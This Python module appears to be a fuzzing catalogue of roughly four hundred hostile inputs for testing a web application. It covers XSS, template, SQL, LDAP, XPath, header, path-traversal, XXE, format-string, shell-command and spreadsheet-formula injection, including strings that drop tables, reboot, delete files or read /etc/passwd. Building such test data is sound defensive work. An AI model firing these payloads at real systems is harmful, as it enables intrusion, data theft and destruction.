"""Four hundred texts that somebody might send to make a page, a query, a file or a log do what it should not."""

from __future__ import annotations

from itertools import product

_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "marquee",
    "object data=x",
    "math",
    "audio src=x",
    "select autofocus",
    "a href=#",
    "style",
    "keygen autofocus",
    "frameset",
    "template",
)
_HANDLERS = ("onerror", "onload", "onfocus", "onmouseover", "ontoggle", "onanimationstart", "onbegin")
_WAYS_OUT = ('">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>", "`>", '\\">')
_PUT_IN = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<meta http-equiv=refresh content=0>", "<base href=//x.test>")
_IN_AN_ATTRIBUTE = (
    '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus '", "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
_SPELLED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "\\u003cscript\\u003ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT/x>alert(1)</SCRIPT>",
    "<svg/onload=alert`1`>",
    "<img/src='x'/onerror='alert(1)'>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "<template><script>alert(1)</script></template>",
    "<form action=//x.test><button>Sign in</button>",
    "<link rel=stylesheet href=//x.test/a.css>",
    "<b id=got>",
    "<!--",
    "]]>",
    "＜script＞alert(1)＜/script＞",
)
_TEMPLATES = ("{{ %s }}", "{%% print(%s) %%}", "${%s}", "#{%s}", "<%%= %s %%>", "*{%s}", "@(%s)", "{{{%s}}}", "[[%s]]", "{# %s #}")
_EXPRESSIONS = ("7*7", "config", "request.environ", "''.__class__.__mro__", "self.__init__.__globals__", "cycler.__init__")
_QUOTES = ("'", '"', "')", "1", "';", "\\'", "%27")
_STATEMENTS = (" OR 1=1 --", " UNION SELECT 1,2,3 --", "; DROP TABLE child; --", " AND pg_sleep(9) --", " OR randomblob(999999999) --",
               " || (SELECT 1) || ", "/**/OR/**/1=1#")
_DIRECTORIES = (
    "*)(uid=*))(|(uid=*", "*)(&", "(|(cn=*))", "admin)(!(&(1=0", "' or '1'='1' or ''='", "//*[1=1]", "count(/*)",
    "x' or name()='a",
)
_BREAKS = ("%0d%0a", "%0a", "\\r\\n", "%E5%98%8A%E5%98%8D")
_HEADERS = ("Set-Cookie:a=b", "Location://x.test", "X-A: b", "Content-Length:0")
_UPWARDS = ("../", "..%2f", "....//", "%2e%2e/", "..\\", "/")
_FILES = ("etc/passwd", "windows/win.ini", "proc/self/environ", "instance/caseflow.sqlite")
_FORMATS = ("%s%s%s%n", "%x%x", "%d", "{0}", "{}", "{0.__class__}", "{a!r:>99999}", "%(name)s", "%99999999d", "$1", "\\1", "%c", "{:>{}}")
_COMMANDS = (
    "$(reboot)", "`id`", "; ls", "| cat /etc/passwd", "&& id", "|| id", "$IFS", "() { :; }; id", "%COMSPEC%",
    "-rf /", "--help", "> /tmp/a",
)
_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "|calc", "=HYPERLINK(\"//x.test\")", "%09=1+1",
    "＝1+1", ";=1+1", '",=1+1',
)
_WORDS = (
    "NaN", "null", "undefined", "None", "True", "Infinity", "-0", "0x10", "1e309", "[]", "{}", "[object Object]",
    "nil", "NULL", "\\N", "0", "-", ".", "/", "con", "aux", "__proto__", "constructor", "hasOwnProperty",
    "toString", "%", "_", "%_%_", "((((", "[a-", "\\", "?", "*",
)

CATALOGUE: tuple[str, ...] = tuple(dict.fromkeys((
    *(f"<{element} {handler}=alert(1)>" for element, handler in product(_ELEMENTS, _HANDLERS)),
    *(out + put for out, put in product(_WAYS_OUT, _PUT_IN)),
    *_IN_AN_ATTRIBUTE,
    *_SPELLED,
    *(template % expression for template, expression in product(_TEMPLATES, _EXPRESSIONS)),
    *(quote + statement for quote, statement in product(_QUOTES, _STATEMENTS)),
    *_DIRECTORIES,
    *(end + header for end, header in product(_BREAKS, _HEADERS)),
    *(up * 3 + file for up, file in product(_UPWARDS, _FILES)),
    *_FORMATS,
    *_COMMANDS,
    *_FORMULAS,
    *_WORDS,
)))
"""In a fixed order."""
